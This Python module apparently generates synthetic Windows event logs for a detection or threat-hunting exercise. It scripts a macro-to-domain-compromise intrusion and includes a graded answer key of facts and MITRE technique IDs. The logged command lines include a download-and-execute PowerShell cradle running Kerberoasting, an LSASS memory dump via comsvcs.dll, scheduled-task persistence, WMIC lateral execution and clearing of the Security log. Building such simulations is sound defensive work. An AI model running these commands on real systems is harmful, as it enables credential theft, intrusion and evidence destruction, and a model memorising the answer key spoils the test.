"""A macro and a beacon in a library: injection, credentials, tickets, a second host and the controller. Winlogbeat 7."""

from __future__ import annotations

import random
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import winlogbeat
from .machine import CMD, PS, SYS32, Machine, digest
from .noise import administrator, collection, furnish, maintenance, ordinary

DAY = Day("2024-02-14")
USER, ADMIN = "MERIDIAN\\l.bauer", "MERIDIAN\\adm.kim"
C2, NAME = "203.0.113.41", "cdn.parcel-status.test"
DOC = "C:\\Users\\l.bauer\\Downloads\\Invoice_8841.docm"
DLL = "C:\\Users\\l.bauer\\AppData\\Roaming\\wkspbroker.dll"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
DUMP = "C:\\Windows\\Temp\\mem88.dmp"


def _client(m: Machine) -> None:
    at = DAY.at
    m.marked(at("09:14:02"), m.procs["edge"], DOC, f"http://{NAME}/Invoice_8841.docm")
    m.wrote(at("09:14:01"), m.procs["edge"], DOC)
    word = m.start(at("09:15:30"), WORD, f'"{WORD}" /n "{DOC}" /o ""', m.procs["explorer"])
    hta = m.start(at("09:15:52"), SYS32 + "mshta.exe", f"mshta.exe http://{NAME}/t.hta", word)
    m.dns_query(at("09:15:53"), hta, NAME, C2)
    m.net(at("09:15:53.2"), hta, C2, 80, NAME)
    script = m.start(
        at("09:15:58"),
        SYS32 + "wscript.exe",
        'wscript.exe //B "C:\\Users\\l.bauer\\AppData\\Local\\Temp\\stat.vbs"',
        hta,
    )
    m.wrote(at("09:15:57"), hta, "C:\\Users\\l.bauer\\AppData\\Local\\Temp\\stat.vbs")
    m.wrote(at("09:16:04"), script, DLL)
    reg = m.start(at("09:16:06"), SYS32 + "regsvr32.exe", f"regsvr32.exe /s {DLL}", script)
    m.loaded(at("09:16:06.3"), reg, DLL, signed=False)
    m.dns_query(at("09:16:08"), reg, NAME, C2)
    for n in range(4):
        m.net(at(f"09:{17 + n}:08"), reg, C2, 443, NAME)
    shell = m.start(at("09:19:00"), CMD, f"{CMD} /C systeminfo & net user /domain & nltest /domain_trusts", reg)
    m.run(at("09:19:00.3"), SYS32 + "systeminfo.exe", "systeminfo", shell)
    m.run(at("09:19:04"), SYS32 + "net.exe", "net user /domain", shell)
    m.run(at("09:19:08"), SYS32 + "nltest.exe", "nltest /domain_trusts", shell)
    note = m.start(at("09:22:10"), SYS32 + "notepad.exe", f"{SYS32}notepad.exe", reg)
    m.injected(at("09:22:11"), reg, note)
    m.accessed(at("09:22:11.1"), reg, note, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|UNKNOWN(000001E2A4C1)")
    m.net(at("09:22:40"), note, C2, 443, NAME)
    dump = m.start(
        at("09:26:00"),
        SYS32 + "rundll32.exe",
        f"rundll32.exe {SYS32}comsvcs.dll, MiniDump 712 {DUMP} full",
        note,
        level="High",
    )
    m.accessed(
        at("09:26:00.5"),
        dump,
        m.procs["lsass"],
        "0x1fffff",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\dbgcore.DLL+6d2a",
    )
    m.wrote(at("09:26:01"), dump, DUMP)
    m.stop(at("09:26:04"), dump)
    task = m.start(
        at("09:29:30"),
        SYS32 + "schtasks.exe",
        f'schtasks /create /sc hourly /tn "OfficeTelemetrySync" /tr "regsvr32.exe /s {DLL}" /f',
        note,
    )
    m.task(at("09:29:30.5"), USER, "\\OfficeTelemetrySync", "regsvr32.exe", f"/s {DLL}")
    m.stop(at("09:29:31"), task)
    roast = m.start(
        at("09:31:00"),
        PS,
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://"
        + NAME
        + "/k.ps1'); Invoke-Kerberoast -OutputFormat Hashcat\"",
        note,
    )
    m.script(
        at("09:31:02"),
        "function Invoke-Kerberoast { [CmdletBinding()] Param([String] $OutputFormat) $Ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $SPN }",
        roast,
    )
    m.net(at("09:31:01"), roast, C2, 80, NAME)
    wmic = m.start(
        at("09:35:00"),
        SYS32 + "wbem\\WMIC.exe",
        'wmic /node:MRD-FS03 /user:MERIDIAN\\adm.kim process call create "rundll32.exe C:\\Windows\\Temp\\wkspbroker.dll,Start"',
        note,
    )
    m.net(at("09:35:00.4"), wmic, "10.44.7.13", 135)
    m.stop(at("09:35:03"), wmic)
    m.security(
        at("09:35:00.2"),
        4648,
        USER,
        TargetUserName="adm.kim",
        TargetDomainName="MERIDIAN",
        TargetServerName="MRD-FS03",
        ProcessId=hex(wmic.pid),
        ProcessName=wmic.image,
        IpAddress="-",
        IpPort="-",
    )


def _server(m: Machine) -> None:
    at = DAY.at
    m.logon(at("09:34:20"), ADMIN, 3, "10.44.7.25", package="NTLM")
    m.security(at("09:34:20.1"), 4672, ADMIN, PrivilegeList="SeDebugPrivilege")
    m.security(
        at("09:34:21"),
        5140,
        ADMIN,
        ObjectType="File",
        IpAddress="10.44.7.25",
        IpPort="50811",
        ShareName="\\\\*\\ADMIN$",
        ShareLocalPath="\\??\\C:\\Windows",
        AccessMask="0x1",
    )
    m.wrote(at("09:34:22"), m.procs["System"], "C:\\Windows\\Temp\\wkspbroker.dll")
    run = m.start(
        at("09:35:01"),
        SYS32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\Temp\\wkspbroker.dll,Start",
        m.procs["wmiprvse"],
        ADMIN,
        "High",
    )
    m.loaded(at("09:35:01.3"), run, "C:\\Windows\\Temp\\wkspbroker.dll", signed=False)
    m.dns_query(at("09:35:02"), run, NAME, C2)
    m.net(at("09:35:03"), run, C2, 443, NAME)
    cmd = m.start(at("09:37:10"), CMD, f"{CMD} /c dir \\\\MRD-FS03\\finance /s", run)
    m.stop(at("09:37:11"), cmd)
    zipped = m.start(
        at("09:39:00"),
        PS,
        "powershell.exe -c Compress-Archive -Path D:\\finance\\* -DestinationPath C:\\Windows\\Temp\\fin.zip",
        run,
    )
    m.script(
        at("09:39:01"), "Compress-Archive -Path D:\\finance\\* -DestinationPath C:\\Windows\\Temp\\fin.zip", zipped
    )
    m.wrote(at("09:39:05"), zipped, "C:\\Windows\\Temp\\fin.zip")
    m.net(at("09:40:00"), run, C2, 443, NAME)
    clear = m.start(at("09:46:30"), SYS32 + "wevtutil.exe", "wevtutil cl Security", run)
    m.event(at("09:46:30.4"), "Security", 1102, dict(m.subject(ADMIN)))
    m.stop(at("09:46:31"), clear)


def _controller(m: Machine) -> None:
    at = DAY.at
    for n, service in enumerate(("MSSQLSvc/mrd-sql01", "HTTP/mrd-web01", "svc_backup")):
        m.security(
            at(f"09:31:0{4 + n}"),
            4769,
            USER,
            TargetUserName="l.bauer@MERIDIAN.TEST",
            TargetDomainName="MERIDIAN.TEST",
            ServiceName=service,
            TicketOptions="0x40810000",
            TicketEncryptionType="0x17",
            IpAddress="::ffff:10.44.7.25",
            Status="0x0",
        )
    m.logon(at("09:42:00"), ADMIN, 3, "10.44.7.13")
    for right in ("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"):
        m.security(
            at("09:42:01"),
            4662,
            ADMIN,
            ObjectServer="DS",
            ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            ObjectName="%{b4f2}",
            OperationType="Object Access",
            AccessMask="0x100",
            Properties=f"%%7688 {{{right}}} {{19195a5b-6da0-11d0-afd3-00c04fd930c9}}",
        )


def write(folder: Path) -> None:
    """One file a host, as three beats write them."""
    dice = random.Random(1402)
    client = Machine("MRD-PC118", "10.44.7.25", "MERIDIAN", "meridian.test")
    server = Machine("MRD-FS03", "10.44.7.13", "MERIDIAN", "meridian.test")
    controller = Machine("MRD-DC02", "10.44.7.2", "MERIDIAN", "meridian.test", sysmon=False)
    furnish(client, USER)
    furnish(server)
    furnish(controller)
    for m, count in ((client, 700), (server, 450), (controller, 450)):
        ordinary(m, DAY, dice, "08:40:00", "10:20:00", count)
    for n in range(60):  # the domain's own tickets and replication
        m = controller
        at = DAY.spread(dice, "08:40:00", "10:20:00", 1)[0]
        m.security(
            at,
            4769,
            USER,
            TargetUserName="MRD-FS03$@MERIDIAN.TEST",
            TargetDomainName="MERIDIAN.TEST",
            ServiceName=("krbtgt", "MRD-DC02$", "cifs/MRD-FS03")[n % 3],
            TicketOptions="0x40810000",
            TicketEncryptionType="0x12",
            IpAddress="::ffff:10.44.7.25",
            Status="0x0",
        )
    maintenance(server, DAY.at("09:05:00"))
    administrator(controller, DAY.at("08:55:00"), "MERIDIAN\\adm.olsen", "10.44.7.60")
    _client(client)
    _server(server)
    _controller(controller)
    collection(server, DAY.at("10:05:00"), "MERIDIAN\\adm.olsen")
    for m in (client, server, controller):
        (folder / f"winlogbeat-{m.name.lower()}.ndjson").write_text(winlogbeat(m), encoding="utf-8")


_FACTS: tuple[FactRow, ...] = (
    ("host", 2, ("mrd-pc118",)), ("host2", 3, ("mrd-fs03",)), ("dc", 2, ("mrd-dc02",)), ("user", 2, ("l.bauer",)), ("admin", 2, ("adm.kim",)),
    ("c2", 3, (C2,)), ("c2_name", 2, (NAME,)), ("document", 3, ("invoice_8841.docm",)), ("mshta", 3, ("winword.exe & mshta.exe",)),
    ("script", 2, ("stat.vbs",)), ("dll", 3, ("wkspbroker.dll",)), ("regsvr", 2, ("regsvr32.exe & wkspbroker.dll",)),
    ("dll_hash", 1, (digest(DLL, "sha256").lower(), digest(DLL, "sha1").lower(), digest(DLL, "md5").lower())),
    ("beacon", 2, (f"regsvr32.exe & {C2}",)), ("discovery", 2, ("systeminfo",)), ("trusts", 1, ("nltest",)),
    ("injection", 3, ("inject & notepad", "notepad.exe & thread")), ("dump", 3, ("comsvcs.dll",)), ("dump_file", 2, ("mem88.dmp",)),
    ("task", 3, ("officetelemetrysync",)), ("roast", 2, ("kerberoast",)), ("wmi", 3, ("wmic & mrd-fs03", "wmiprvse.exe & rundll32.exe")),
    ("lateral", 2, ("mrd-fs03 & adm.kim", "mrd-fs03 & 10.44.7.25")), ("zip", 2, ("fin.zip",)), ("dcsync", 3, ("mrd-dc02 & adm.kim", "replicat")),
    ("cleared", 3, ("wevtutil & cl", "log & cleared", "1102")),
)  # fmt: skip

SCENARIO = Scenario(
    "macro", write,
    make_truth(
        "macro", _FACTS, "document mshta dll discovery injection dump task roast wmi zip cleared",
        "T1204.002 T1218.005 T1218.010 T1059.005 T1055 T1003.001 T1053.005 T1558.003 T1047 T1082 T1482 T1560.001 T1003.006 T1685.005 T1071.001",
        "T1566 T1566.001 T1105 T1059 T1059.001 T1059.003 T1087 T1087.002 T1033 T1069 T1218.011 T1021.002 T1021 T1078 T1078.002 T1570 T1083 T1070 T1070.001 "
        "T1135 T1027 T1564.003 T1018 T1550 T1550.002 T1550.003 T1574 T1005 T1041 T1039 T1189 T1134 T1620 T1685 T1095 T1571",
        ("2024-02-14T09:14:01Z", "2024-02-14T09:46:31Z"),
        ("GoogleUpdate.exe", "142.250.72.99", "healthservice.exe", "10.31.0.40", "adm.olsen", "10.44.7.60", "collect.ps1", "MsMpEng.exe"),
        ("netsh.exe",),
    ),
)  # fmt: skip
